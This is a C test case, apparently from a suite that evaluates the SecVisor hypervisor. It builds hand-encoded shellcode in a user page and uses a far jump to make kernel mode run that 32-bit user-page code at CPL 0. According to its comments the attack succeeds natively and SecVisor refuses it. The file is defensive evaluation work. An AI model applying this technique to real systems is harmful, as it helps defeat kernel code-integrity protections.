// Row 6. Kernel mode made to run 32-bit code in a user page, by a far return to the kernel's 32-bit code segment.
// Source: "Heaven's gate" at CPL 0.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>
#include <sys/mman.h>

ATTACK("compatibility-mode")
{
	// mov eax, 0x1337; jmp far 10h:low + 16. There, in 64-bit mode again: jmp rcx.
	u8 *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT | MAP_POPULATE, -1, 0);
	u32 low = (u32)(u64)page, back = low + 16;
	u64 result;

	memcpy(page, "\xb8\x37\x13\0\0\xea\0\0\0\0\x10\0", 12);
	memcpy(page + 6, &back, 4);
	memcpy(page + 16, "\xff\xe1", 2);
	make_executable(low);
	about_to("run 32-bit code of a user page at CPL 0");
	unprotect();
	result = operate(VULNERABLE_FAR_RETURN, low, 0x08, 0);
	if (result == MARK)
		succeeded("32-bit code of a user page ran at CPL 0");
	failed("RAX was %#llx", (unsigned long long)result);
}
